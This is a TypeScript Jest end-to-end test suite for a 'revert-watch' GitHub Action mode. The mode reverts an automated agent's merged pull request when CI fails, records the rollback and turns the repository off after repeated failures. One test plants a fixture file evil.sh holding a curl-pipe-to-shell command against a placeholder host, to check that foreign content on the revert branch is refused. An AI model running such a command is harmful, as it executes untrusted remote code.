/**
 * mode: revert-watch, end to end: a workflow_run event file, the action's main and post stages, a
 * real database, real git (a bare repository on disk plays the remote, with a real merge commit),
 * and GitHub's API served by the local fake.
 */
import { afterAll, afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { MemoryHost } from '../../../src/runtime/host.js'
import { readKillSwitch, setFlag } from '../../../src/db/flags.js'
import type { LifecycleDeps } from '../../../src/runtime/deps.js'
import { mainStage, postStage } from '../../../src/modes/index.js'
import { DISABLED_LABEL, REVERT_LABEL } from '../../../src/modes/revert-watch/decide.js'
import { createTestDatabase, type TestDatabase } from '../../__fixtures__/db.js'
import { githubError, useGitHubFake } from '../../__fixtures__/github-fake.js'
import { installRevertRoutes, type RevertFake } from '../../__fixtures__/github-fake-revert.js'
import { gitAs } from '../../__fixtures__/git.js'
import { testDeps } from '../../__fixtures__/deps.js'

const CONFIG_PATH = '.github/self-evolution-config.json'
const NOW = new Date('2026-11-25T12:00:00Z')
const TITLE = 'Tidy the README'
const PR = 101
const AGENT_BRANCH = 'self-evolution/2026-11-24-tidy-the-readme-1'

const fake = useGitHubFake()
let revertFake: RevertFake
let db: TestDatabase
let root: string
let bare: string | undefined

beforeEach(async () => {
  db = await createTestDatabase()
  await setFlag(db.sql, { value: true, by: 'test', now: new Date('2026-11-01T00:00:00Z') })
  root = mkdtempSync(join(tmpdir(), 'se-revert-watch-'))
  bare = undefined
  revertFake = installRevertRoutes(fake, { bare: () => bare })
})
afterEach(async () => {
  revertFake.remove()
  await db.close()
  rmSync(root, { recursive: true, force: true })
})

// --- git ----------------------------------------------------------------------------------------

const git = (cwd: string, args: string[]) => gitAs({ name: 'dev', home: root }, cwd, args)

type Remote = { bare: string; workspace: string; mergeSha: string; head: string; firstParent: string }

/**
 * A remote whose main carries: the config, then the agent's change merged (a merge commit, or a
 * squash commit), then an unrelated commit on top. The workspace is a clone of it (the checkout).
 */
function buildRemote(config: unknown, opts: { squash?: boolean } = {}): Remote {
  const key = JSON.stringify([config, opts.squash === true])
  let template = templates.get(key)
  if (!template) {
    const dir = mkdtempSync(join(templatesRoot, 'remote-'))
    template = { dir, remote: buildRemoteIn(dir, config, opts) }
    templates.set(key, template)
  }
  // A copy of the template, made without starting git: the test may change it freely.
  for (const part of ['work', 'remote.git', 'workspace']) {
    cpSync(join(template.dir, part), join(root, part), { recursive: true })
  }
  for (const file of ['remote.git/config', 'workspace/.git/config']) {
    const path = join(root, file)
    writeFileSync(path, readFileSync(path, 'utf8').replaceAll(template.dir, root))
  }
  bare = join(root, 'remote.git')
  return { ...template.remote, bare, workspace: join(root, 'workspace') }
}

/**
 * Building a remote takes some twenty git processes, so each (config, squash) is built once per
 * file, in a template directory, and copied into the test's own directory.
 */
const templatesRoot = mkdtempSync(join(tmpdir(), 'se-revert-watch-templates-'))
const templates = new Map<string, { dir: string; remote: Remote }>()
afterAll(() => rmSync(templatesRoot, { recursive: true, force: true }))

function buildRemoteIn(root: string, config: unknown, opts: { squash?: boolean }): Remote {
  const git = (cwd: string, args: string[]) => gitAs({ name: 'dev', home: root }, cwd, args)
  const work = join(root, 'work')
  mkdirSync(work)
  git(work, ['init', '-q', '-b', 'main'])
  mkdirSync(join(work, '.github'))
  writeFileSync(join(work, CONFIG_PATH), JSON.stringify(config, null, 2))
  writeFileSync(join(work, 'README.md'), 'hello\n')
  writeFileSync(join(work, 'old.txt'), 'to be deleted by the agent\n')
  mkdirSync(join(work, 'src'))
  writeFileSync(join(work, 'src', 'keep.ts'), 'export const keep = 1\n')
  git(work, ['add', '-A'])
  git(work, ['commit', '-qm', 'base'])
  git(work, ['checkout', '-qb', AGENT_BRANCH])
  writeFileSync(join(work, 'README.md'), 'hello\ntidied\n')
  writeFileSync(join(work, 'src', 'new.ts'), 'export const added = 2\n')
  git(work, ['rm', '-q', 'old.txt'])
  git(work, ['add', '-A'])
  git(work, ['commit', '-qm', TITLE])
  git(work, ['checkout', '-q', 'main'])
  if (opts.squash) {
    git(work, ['merge', '-q', '--squash', AGENT_BRANCH])
    git(work, ['commit', '-qm', `${TITLE} (#${PR})`])
  } else {
    git(work, [
      'merge',
      '-q',
      '--no-ff',
      '-m',
      `Merge pull request #${PR} from ${AGENT_BRANCH}`,
      AGENT_BRANCH
    ])
  }
  const mergeSha = git(work, ['rev-parse', 'HEAD'])
  const firstParent = git(work, ['rev-parse', 'HEAD^1'])
  writeFileSync(join(work, 'src', 'keep.ts'), 'export const keep = 3\n')
  git(work, ['commit', '-qam', 'an unrelated change after the merge'])
  const head = git(work, ['rev-parse', 'HEAD'])
  const bare = join(root, 'remote.git')
  git(root, ['clone', '-q', '--bare', work, bare])
  git(bare, ['branch', '-q', '-D', AGENT_BRANCH]) // deleted after the merge, as GitHub offers
  const workspace = join(root, 'workspace')
  git(root, ['clone', '-q', bare, workspace])
  return { bare, workspace, mergeSha, head, firstParent }
}

/**
 * The tree of the revert of the merge on the default branch's head, stored in the remote; `edit`
 * changes it first (someone else's content).
 */
function revertTree(remote: Remote, edit?: (work: string) => void): string {
  const work = mkdtempSync(join(root, 'revert-tree-'))
  git(work, ['clone', '-q', remote.bare, '.'])
  git(work, ['revert', '--no-edit', '-m', '1', remote.mergeSha])
  if (edit) {
    edit(work)
    git(work, ['add', '-A'])
    git(work, ['commit', '-q', '--amend', '--no-edit'])
  }
  git(work, ['push', '-q', 'origin', 'HEAD:refs/heads/tree-carrier'])
  git(remote.bare, ['update-ref', '-d', 'refs/heads/tree-carrier'])
  return git(work, ['rev-parse', 'HEAD^{tree}'])
}

/** A revert branch an earlier, interrupted attempt pushed (`tree`: its content, the revert's by default). */
function leaveBranch(remote: Remote, branch: string, tree = revertTree(remote)): string {
  // A sibling of the revert this job makes: same parent and tree, another commit (another author),
  // so a push cannot fast-forward.
  const sibling = git(remote.bare, [
    'commit-tree',
    tree,
    '-p',
    remote.head,
    '-m',
    'an earlier revert attempt'
  ])
  git(remote.bare, ['update-ref', `refs/heads/${branch}`, sibling])
  return sibling
}

function remoteBranches(remote: Remote): string[] {
  return git(remote.bare, ['for-each-ref', '--format=%(refname)', 'refs/heads/']).split('\n').filter(Boolean)
}

// --- the database -------------------------------------------------------------------------------

/** A finished run with one allowed proposal and its action; returns the ids. */
async function seedAction(opts: {
  runDate: string
  runStatus?: string
  finishedAt?: Date
  action?: { status: string; payload: Record<string, unknown>; type?: string }
  title?: string
}) {
  const finishedAt = opts.finishedAt ?? new Date(`${opts.runDate}T03:00:00Z`)
  const [run] = await db.sql<{ id: number }[]>`
    INSERT INTO self_evolution_runs (repository, run_date, status, started_at, finished_at)
    VALUES (${fake.fullName}, ${opts.runDate}, ${opts.runStatus ?? 'success'}, ${finishedAt}, ${finishedAt})
    RETURNING id`
  const [proposal] = await db.sql<{ id: number }[]>`
    INSERT INTO self_evolution_proposals (run_id, repository, run_date, type, title, risk_level, allowlisted)
    VALUES (${run.id}, ${fake.fullName}, ${opts.runDate}, 'cleanup', ${opts.title ?? TITLE}, 1, true)
    RETURNING id`
  if (!opts.action) return { runId: run.id, proposalId: proposal.id, actionId: 0 }
  const [action] = await db.sql<{ id: number }[]>`
    INSERT INTO self_evolution_actions (proposal_id, action_type, payload, status)
    VALUES (${proposal.id}, ${opts.action.type ?? 'pr'}, ${db.sql.json(opts.action.payload as never)}, ${opts.action.status})
    RETURNING id`
  return { runId: run.id, proposalId: proposal.id, actionId: action.id }
}

function mergedPayload(mergeSha: string) {
  return {
    branch: AGENT_BRANCH,
    baseSha: 'b'.repeat(40),
    headSha: 'c'.repeat(40),
    pullRequest: { number: PR, url: `https://github.com/${fake.fullName}/pull/${PR}` },
    mergeSha
  }
}

// --- the job ------------------------------------------------------------------------------------

const LIVE = { enabled: true, dryRunMode: false, rollbackConfig: { maxFailuresBeforeDisable: 3 } }

function workflowRunEvent(sha: string, over: Record<string, unknown> = {}) {
  return {
    action: 'completed',
    workflow_run: {
      id: 4242,
      name: 'CI',
      html_url: `https://github.com/${fake.fullName}/actions/runs/4242`,
      conclusion: 'failure',
      status: 'completed',
      head_sha: sha,
      head_branch: 'main',
      event: 'push',
      path: '.github/workflows/ci.yml',
      run_attempt: 1,
      head_repository: { full_name: fake.fullName },
      ...over
    },
    repository: { full_name: fake.fullName, default_branch: 'main' }
  }
}

async function job(
  remote: Remote,
  opts: {
    event?: unknown
    eventName?: string
    inputs?: Record<string, string>
    openDatabase?: LifecycleDeps['openDatabase']
  } = {}
) {
  const eventPath = join(root, `event-${Math.random().toString(36).slice(2)}.json`)
  writeFileSync(eventPath, JSON.stringify(opts.event ?? workflowRunEvent(remote.mergeSha)))
  const env = {
    GITHUB_EVENT_PATH: eventPath,
    GITHUB_WORKFLOW_REF: `${fake.fullName}/.github/workflows/self-evolution-revert.yml@refs/heads/main`
  }
  const host = new MemoryHost(
    {
      mode: 'revert-watch',
      'github-token': 'ghs_read',
      'write-token': 'ghs_write',
      'database-url': 'postgres://test',
      ...opts.inputs
    },
    env
  )
  const deps = testDeps({
    host,
    fake,
    db,
    clock: { date: () => NOW, sleep: async () => {} },
    ctx: {
      event: opts.eventName ?? 'workflow_run',
      sha: remote.head,
      githubRunId: 9001,
      workspace: remote.workspace
    },
    ...(opts.openDatabase && { openDatabase: opts.openDatabase }),
    localArtifactRoot: join(root, 'artifacts')
  })
  const main = await mainStage(deps)
  const post = await postStage(deps)
  return { main, post, host }
}

/** The job summary as a reader sees it: numeric character references decoded. */
function summary(host: MemoryHost): string {
  return host.summary.replace(/&#(\d+);/g, (_m, n: string) => String.fromCharCode(Number(n)))
}

async function rows() {
  const actions = await db.sql<
    {
      id: number
      proposal_id: number
      action_type: string
      status: string
      payload: Record<string, unknown>
    }[]
  >`SELECT id, proposal_id, action_type, status, payload FROM self_evolution_actions ORDER BY id`
  const rollbacks = await db.sql<{ action_id: number; reason: string }[]>`
    SELECT action_id, reason FROM self_evolution_rollbacks ORDER BY id`
  const runs = await db.sql<
    { id: number; status: string }[]
  >`SELECT id, status FROM self_evolution_runs ORDER BY id`
  return { actions, rollbacks, runs }
}

/** The revert branch restores, for every path the merge changed, the merge's first parent. */
function expectReverts(remote: Remote, branch: string) {
  const changed = git(remote.bare, ['diff', '--name-only', remote.firstParent, remote.mergeSha]).split('\n')
  expect(changed.sort()).toEqual(['README.md', 'old.txt', 'src/new.ts'])
  const objectAt = (rev: string, path: string) => {
    try {
      return git(remote.bare, ['rev-parse', '--verify', '-q', `${rev}:${path}`])
    } catch {
      return 'absent'
    }
  }
  for (const path of changed)
    expect(objectAt(`refs/heads/${branch}`, path)).toBe(objectAt(remote.firstParent, path))
  // The later, unrelated commit stays: the revert sits on the default branch's head.
  expect(git(remote.bare, ['rev-parse', `refs/heads/${branch}^`])).toBe(remote.head)
  expect(objectAt(`refs/heads/${branch}`, 'src/keep.ts')).toBe(objectAt(remote.head, 'src/keep.ts'))
  expect(git(remote.bare, ['log', '-1', '--format=%an <%ae>', `refs/heads/${branch}`])).toBe(
    'self-evolution[bot] <self-evolution[bot]@users.noreply.github.com>'
  )
}

// --- the tests ----------------------------------------------------------------------------------

describe('revert-watch on a failing run of a recorded merge', () => {
  it('reverts on one branch, opens one pull request, records it, and does nothing when sent again', async () => {
    const remote = buildRemote(LIVE)
    const seeded = await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })

    const first = await job(remote)
    expect(first.host.failed).toBeUndefined()
    expect(first.main.status).toBe('success')
    expect(first.post.status).toBe('skipped')

    expect(remoteBranches(remote)).toEqual(['refs/heads/main', `refs/heads/self-evolution/revert-${PR}`])
    expectReverts(remote, `self-evolution/revert-${PR}`)

    const opened = revertFake.opened()
    expect(opened).toHaveLength(1)
    expect(opened[0]).toMatchObject({
      title: `Revert "${TITLE}"`,
      head: { ref: `self-evolution/revert-${PR}` },
      base: { ref: 'main' },
      draft: false
    })
    expect(opened[0].body).toContain(`https://github.com/${fake.fullName}/actions/runs/4242`)
    expect(opened[0].body).toContain(`Reverts #${PR}`)
    expect(opened[0].labels).toEqual(expect.arrayContaining(['self-evolution', REVERT_LABEL]))
    // Never auto-merged: no merge, no auto-merge (GraphQL) request.
    expect(fake.writes().map(w => `${w.method} ${w.path}`)).toEqual([
      `POST /repos/${fake.fullName}/pulls`,
      `POST /repos/${fake.fullName}/issues/${opened[0].number}/labels`
    ])

    const after = await rows()
    const revert = after.actions.find(a => a.action_type === 'revert')!
    expect(revert).toBeDefined()
    expect(revert.proposal_id).toBe(seeded.proposalId)
    expect(revert.status).toBe('submitted')
    const revertHead = git(remote.bare, ['rev-parse', `refs/heads/self-evolution/revert-${PR}`])
    expect(revert.payload).toEqual({
      branch: `self-evolution/revert-${PR}`,
      baseSha: remote.head,
      headSha: revertHead,
      pullRequest: {
        number: opened[0].number,
        url: `https://github.com/${fake.fullName}/pull/${opened[0].number}`
      },
      revertOf: { actionId: seeded.actionId, pullRequest: PR, mergeSha: remote.mergeSha },
      failingRun: {
        id: 4242,
        name: 'CI',
        url: `https://github.com/${fake.fullName}/actions/runs/4242`,
        conclusion: 'failure'
      }
    })
    expect(after.actions.find(a => a.id === seeded.actionId)!.status).toBe('rolled_back')
    expect(after.rollbacks).toHaveLength(1)
    expect(after.rollbacks[0].action_id).toBe(seeded.actionId)
    expect(after.rollbacks[0].reason).toContain('Workflow "CI" concluded failure')
    expect(after.rollbacks[0].reason).toContain(`https://github.com/${fake.fullName}/actions/runs/4242`)
    expect(after.runs.find(r => r.id === seeded.runId)!.status).toBe('reverted')
    expect(summary(first.host)).toContain('Reverted pull request #101')

    // The same event again (a re-run, or a second CI workflow failing on the same merge).
    fake.clearRequests()
    const again = await job(remote)
    expect(again.host.failed).toBeUndefined()
    expect(again.main.status).toBe('skipped')
    expect(fake.writes()).toEqual([])
    expect(revertFake.opened()).toHaveLength(1)
    expect(remoteBranches(remote)).toHaveLength(2)
    expect((await rows()).rollbacks).toHaveLength(1)
    expect(summary(again.host)).toMatch(/already (rolled back|reverted)/)

    // Another workflow failing on the same merge, with a different run id: still nothing.
    const other = await job(remote, { event: workflowRunEvent(remote.mergeSha, { id: 4243, name: 'Lint' }) })
    expect(other.main.status).toBe('skipped')
    expect(fake.writes()).toEqual([])
  })

  it('reverts a squash merge with a plain revert', async () => {
    const remote = buildRemote(LIVE, { squash: true })
    expect(git(remote.bare, ['rev-list', '--parents', '-n', '1', remote.mergeSha]).split(' ')).toHaveLength(2)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()
    expectReverts(remote, `self-evolution/revert-${PR}`)
    expect(revertFake.opened()).toHaveLength(1)
    expect(revertFake.opened()[0].body).toContain('(commit ')
  })

  it('finds a merge the gate never recorded through GET /commits/{sha}/pulls, and records it first', async () => {
    const remote = buildRemote(LIVE)
    const { mergeSha: _unused, ...submitted } = mergedPayload(remote.mergeSha)
    void _unused
    const seeded = await seedAction({
      runDate: '2026-11-24',
      action: { status: 'submitted', payload: submitted }
    })
    revertFake.addPull({
      number: PR,
      title: TITLE,
      state: 'closed',
      head: { ref: AGENT_BRANCH, sha: 'c'.repeat(40), repo: fake.fullName },
      base: { ref: 'main', sha: remote.firstParent, repo: fake.fullName },
      mergedAt: '2026-11-24T12:00:00Z',
      mergeCommitSha: remote.mergeSha
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()
    expect(fake.requestsTo('GET', new RegExp(`/commits/${remote.mergeSha}/pulls`))).toHaveLength(1)
    const action = (await rows()).actions.find(a => a.id === seeded.actionId)!
    expect(action.status).toBe('rolled_back')
    expect(action.payload.mergeSha).toBe(remote.mergeSha)
    expect(revertFake.opened()).toHaveLength(1)
    expectReverts(remote, `self-evolution/revert-${PR}`)
  })

  it('reverts a pull request the gate saw closed, then reopened and merged as this commit', async () => {
    const remote = buildRemote(LIVE)
    const { mergeSha: _unused, ...closed } = mergedPayload(remote.mergeSha)
    void _unused
    const seeded = await seedAction({
      runDate: '2026-11-24',
      action: { status: 'closed', payload: closed }
    })
    revertFake.addPull({
      number: PR,
      title: TITLE,
      state: 'closed',
      head: { ref: AGENT_BRANCH, sha: 'c'.repeat(40), repo: fake.fullName },
      base: { ref: 'main', sha: remote.firstParent, repo: fake.fullName },
      mergedAt: '2026-11-24T12:00:00Z',
      mergeCommitSha: remote.mergeSha
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()
    expect(r.main.status).toBe('success')
    const action = (await rows()).actions.find(a => a.id === seeded.actionId)!
    expect(action.status).toBe('rolled_back')
    expect(action.payload.mergeSha).toBe(remote.mergeSha)
    expect(revertFake.opened()).toHaveLength(1)
    expectReverts(remote, `self-evolution/revert-${PR}`)
  })

  it('leaves a closed action alone when GitHub does not show it merged as this commit', async () => {
    const remote = buildRemote(LIVE)
    const { mergeSha: _unused, ...closed } = mergedPayload(remote.mergeSha)
    void _unused
    await seedAction({ runDate: '2026-11-24', action: { status: 'closed', payload: closed } })
    const r = await job(remote)
    expect(r.main.status).toBe('skipped')
    expect(fake.writes()).toEqual([])
    expect(remoteBranches(remote)).toEqual(['refs/heads/main'])
    expect((await rows()).actions.map(a => a.status)).toEqual(['closed'])
  })

  it('does not revert a merge that GitHub links to a pull request nobody recorded', async () => {
    const remote = buildRemote(LIVE)
    revertFake.addPull({
      number: 77,
      title: 'A human change',
      state: 'closed',
      head: { ref: 'feature', sha: 'c'.repeat(40), repo: fake.fullName },
      mergedAt: '2026-11-24T12:00:00Z',
      mergeCommitSha: remote.mergeSha,
      author: 'octocat'
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()
    expect(r.main.status).toBe('skipped')
    expect(summary(r.host)).toContain('not the merge of a recorded pull request')
    expect(fake.writes()).toEqual([])
    expect(remoteBranches(remote)).toEqual(['refs/heads/main'])
  })

  it('leaves the merge alone when rollbackConfig.autoRevertOnFailure is off', async () => {
    const remote = buildRemote({ ...LIVE, rollbackConfig: { autoRevertOnFailure: false } })
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote)
    expect(r.main.status).toBe('skipped')
    expect(summary(r.host)).toContain('autoRevertOnFailure is false')
    expect(fake.writes()).toEqual([])
    expect((await rows()).rollbacks).toEqual([])
  })
})

describe('an earlier, interrupted attempt', () => {
  it('records the revert pull request it left open instead of opening another', async () => {
    const remote = buildRemote(LIVE)
    const seeded = await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const left = leaveBranch(remote, `self-evolution/revert-${PR}`)
    revertFake.addPull({
      number: 321,
      title: `Revert "${TITLE}"`,
      head: { ref: `self-evolution/revert-${PR}`, sha: left, repo: fake.fullName },
      base: { ref: 'main', sha: remote.head, repo: fake.fullName }
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()
    expect(revertFake.opened()).toEqual([])
    // The branch is left as it was: never force-pushed.
    expect(git(remote.bare, ['rev-parse', `refs/heads/self-evolution/revert-${PR}`])).toBe(left)
    const after = await rows()
    const revert = after.actions.find(a => a.action_type === 'revert')!
    expect(revert.payload.pullRequest).toEqual({
      number: 321,
      url: `https://github.com/${fake.fullName}/pull/321`
    })
    expect(after.actions.find(a => a.id === seeded.actionId)!.status).toBe('rolled_back')
    expect(after.rollbacks).toHaveLength(1)
  })

  it('refuses a pull request on the revert branch that is not its own', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    leaveBranch(remote, `self-evolution/revert-${PR}`)
    revertFake.addPull({
      number: 322,
      title: 'Something else',
      head: { ref: `self-evolution/revert-${PR}`, sha: 'd'.repeat(40), repo: fake.fullName }
    })
    const r = await job(remote)
    expect(r.main.status).toBe('failed')
    expect(r.host.failed).toMatch(/#322\) already uses the branch/)
    expect(fake.writes()).toEqual([])
    expect((await rows()).rollbacks).toEqual([])
  })

  it('refuses an open pull request with the revert title whose head is not the revert', async () => {
    const remote = buildRemote(LIVE)
    const seeded = await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    // Someone else's content behind the predictable branch and title: the revert, plus a file.
    const tree = revertTree(remote, work =>
      writeFileSync(join(work, 'evil.sh'), 'curl https://example.invalid | sh\n')
    )
    const foreign = leaveBranch(remote, `self-evolution/revert-${PR}`, tree)
    revertFake.addPull({
      number: 324,
      title: `Revert "${TITLE}"`,
      head: { ref: `self-evolution/revert-${PR}`, sha: foreign, repo: fake.fullName },
      base: { ref: 'main', sha: remote.head, repo: fake.fullName }
    })
    const r = await job(remote)
    expect(r.main.status).toBe('failed')
    expect(r.host.failed).toMatch(
      /#324\) on the branch self-evolution\/revert-101 has the revert's title, but its head/
    )
    expect(git(remote.bare, ['rev-parse', `refs/heads/self-evolution/revert-${PR}`])).toBe(foreign)
    expect(fake.writes()).toEqual([])
    const after = await rows()
    expect(after.rollbacks).toEqual([])
    expect(after.actions.map(a => a.action_type)).toEqual(['pr'])
    expect(after.actions.find(a => a.id === seeded.actionId)!.status).toBe('merged')
  })

  it('keeps the branch and records the open pull request when the push fast-forwarded onto it', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    git(remote.bare, ['update-ref', `refs/heads/self-evolution/revert-${PR}`, remote.head])
    revertFake.addPull({
      number: 323,
      title: `Revert "${TITLE}"`,
      head: { ref: `self-evolution/revert-${PR}`, sha: remote.head, repo: fake.fullName }
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()
    expect(remoteBranches(remote)).toContain(`refs/heads/self-evolution/revert-${PR}`)
    expectReverts(remote, `self-evolution/revert-${PR}`)
    const revert = (await rows()).actions.find(a => a.action_type === 'revert')!
    expect(revert.payload.pullRequest).toEqual({
      number: 323,
      url: `https://github.com/${fake.fullName}/pull/323`
    })
    expect(revertFake.opened()).toEqual([])
  })

  it('stops when the revert branch exists without a pull request', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const left = leaveBranch(remote, `self-evolution/revert-${PR}`)
    const r = await job(remote)
    expect(r.main.status).toBe('failed')
    expect(r.host.failed).toMatch(
      /Pushing the revert branch self-evolution\/revert-101 failed .*delete it and re-run/
    )
    expect(git(remote.bare, ['rev-parse', `refs/heads/self-evolution/revert-${PR}`])).toBe(left)
    expect(fake.writes()).toEqual([])
    expect((await rows()).rollbacks).toEqual([])
  })

  it('asks GitHub for the pull request number when the merge was recorded without one', async () => {
    const remote = buildRemote(LIVE)
    const { pullRequest: _p, ...noNumber } = mergedPayload(remote.mergeSha)
    void _p
    await seedAction({ runDate: '2026-11-24', action: { status: 'merged', payload: noNumber } })
    revertFake.addPull({
      number: PR,
      title: TITLE,
      state: 'closed',
      head: { ref: AGENT_BRANCH, sha: 'c'.repeat(40), repo: fake.fullName },
      mergedAt: '2026-11-24T12:00:00Z',
      mergeCommitSha: remote.mergeSha
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()
    expect(revertFake.opened().map(p => p.head.ref)).toEqual([`self-evolution/revert-${PR}`])
  })
})

describe('consecutive failures', () => {
  it('turns the repository off at the limit, with metadata, and opens exactly one notice issue', async () => {
    const remote = buildRemote({ ...LIVE, rollbackConfig: { maxFailuresBeforeDisable: 2 } })
    // Neither a closed notice nor an open issue without the label is the notice.
    const seedIssue = async (title: string, labels: string[]) => {
      await fetch(`${fake.url}/repos/${fake.fullName}/issues`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ title, labels })
      })
    }
    await seedIssue('an old notice', [DISABLED_LABEL])
    fake.state.issues[0].issue.state = 'closed'
    await seedIssue('a bug report', ['bug'])
    fake.clearRequests()
    await seedAction({ runDate: '2026-11-23', runStatus: 'failed' })
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()

    const ks = await readKillSwitch(db.sql, fake.fullName)
    expect(ks.repository).toBe(false)
    const [flag] = await db.sql<{ metadata: Record<string, unknown> }[]>`
      SELECT metadata FROM feature_flags WHERE key = ${`self_evolution_enabled:${fake.fullName}`}`
    expect(flag.metadata).toMatchObject({
      disabledBy: 'self-evolution revert-watch',
      disabledAt: NOW.toISOString(),
      disabledFor: {
        failures: 2,
        limit: 2,
        failingRun: { id: 4242, name: 'CI', conclusion: 'failure' },
        revertOf: { pullRequest: PR, mergeSha: remote.mergeSha }
      }
    })
    expect(flag.metadata.reason).toContain('2 consecutive failures')

    expect(fake.requestsTo('POST', /\/issues\/\d+\/comments$/)).toEqual([])
    const issues = fake.state.issues.filter(i => i.repo === fake.fullName).slice(2)
    expect(issues).toHaveLength(1)
    expect((issues[0].issue.labels as { name: string }[]).map(l => l.name)).toEqual([DISABLED_LABEL])
    expect(issues[0].issue.body).toContain(`self-evolution flag enable --repository ${fake.fullName}`)
    expect(issues[0].issue.body).toContain('/actions/runs/4242')
    expect(r.host.lines.some(l => l.level === 'warning' && l.text.includes('is now off'))).toBe(true)
  })

  it('comments on the open notice issue when the repository is turned off a second time', async () => {
    const remote = buildRemote({ ...LIVE, rollbackConfig: { maxFailuresBeforeDisable: 1 } })
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    // A pull request that happens to carry the label is not the notice.
    revertFake.addPull({ number: 150, title: 'unrelated', labels: [DISABLED_LABEL], author: 'octocat' })
    await job(remote)
    expect(fake.state.issues).toHaveLength(1)
    expect((await readKillSwitch(db.sql, fake.fullName)).repository).toBe(false)

    // An operator turns it back on; a later run's merge fails CI again.
    await setFlag(db.sql, {
      repository: fake.fullName,
      value: true,
      by: 'operator',
      now: new Date('2026-11-25T06:00:00Z')
    })
    const work = join(root, 'second')
    git(root, ['clone', '-q', remote.bare, work])
    writeFileSync(join(work, 'second.txt'), 'second change\n')
    git(work, ['add', '-A'])
    git(work, ['commit', '-qm', 'second change'])
    const second = git(work, ['rev-parse', 'HEAD'])
    git(work, ['push', '-q', 'origin', 'HEAD:refs/heads/main'])
    git(remote.workspace, ['fetch', '-q', 'origin'])
    await seedAction({
      runDate: '2026-11-25',
      finishedAt: new Date('2026-11-25T07:00:00Z'),
      title: 'Second change',
      action: {
        status: 'merged',
        payload: {
          ...mergedPayload(second),
          branch: 'self-evolution/b',
          pullRequest: { number: 102, url: 'u' }
        }
      }
    })
    fake.clearRequests()
    const r2 = await job(
      { ...remote, mergeSha: second, head: second },
      { event: workflowRunEvent(second, { id: 5000 }) }
    )
    expect(r2.host.failed).toBeUndefined()
    expect((await readKillSwitch(db.sql, fake.fullName)).repository).toBe(false)
    expect(fake.state.issues).toHaveLength(1)
    expect(fake.state.comments).toHaveLength(1)
    expect(fake.state.comments[0].comment.body).toContain('/actions/runs/5000')
    expect(fake.requestsTo('POST', /\/issues$/)).toEqual([])
    expect(revertFake.pulls.find(p => p.number === 150)!.labels).toEqual([DISABLED_LABEL])
  })
})

describe('a dry run', () => {
  it('writes nothing, pushes nothing, records no revert, and puts the notice in the summary', async () => {
    const remote = buildRemote({
      enabled: true,
      dryRunMode: true,
      rollbackConfig: { maxFailuresBeforeDisable: 1 }
    })
    const seeded = await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote)
    expect(r.host.failed).toBeUndefined()
    expect(fake.writes()).toEqual([])
    expect(remoteBranches(remote)).toEqual(['refs/heads/main'])
    const after = await rows()
    expect(after.rollbacks).toEqual([])
    expect(after.actions.map(a => a.status)).toEqual(['merged'])
    expect(after.runs.find(r => r.id === seeded.runId)!.status).toBe('success')
    expect((await readKillSwitch(db.sql, fake.fullName)).on).toBe(true)
    expect(summary(r.host)).toContain('Dry run')
    expect(summary(r.host)).toContain('Notice (dry run: no issue was opened)')
    expect(summary(r.host)).toContain(`self-evolution flag enable --repository ${fake.fullName}`)
    expect(summary(r.host)).toContain('GIT push')
    expect(summary(r.host)).toContain('POST /repos/{owner}/{repo}/pulls')
  })

  it('runs without the App: with an empty write-token it reads with github-token and reports the revert', async () => {
    const remote = buildRemote({ enabled: true, dryRunMode: true })
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote, { inputs: { 'write-token': '' } })
    expect(r.host.failed).toBeUndefined()
    expect(fake.writes()).toEqual([])
    expect(remoteBranches(remote)).toEqual(['refs/heads/main'])
    expect((await rows()).rollbacks).toEqual([])
    expect(summary(r.host)).toContain('Dry run')
    expect(summary(r.host)).toContain('GIT push')
  })

  it('is forced by the dry-run input even with a live config', async () => {
    const remote = buildRemote(LIVE)
    await seedAction({
      runDate: '2026-11-24',
      action: { status: 'merged', payload: mergedPayload(remote.mergeSha) }
    })
    const r = await job(remote, { inputs: { 'dry-run': 'true' } })
    expect(r.host.failed).toBeUndefined()
    expect(fake.writes()).toEqual([])
    expect(remoteBranches(remote)).toEqual(['refs/heads/main'])
  })
})

describe('events revert-watch leaves alone', () => {
  it.each([
    ['a success', { conclusion: 'success' }, 'not "failure"'],
    ['a cancelled run', { conclusion: 'cancelled' }, 'not "failure"'],
    ['another branch', { head_branch: 'feature' }, 'not for the default branch'],
    [
      'a fork pull request from a branch named main',
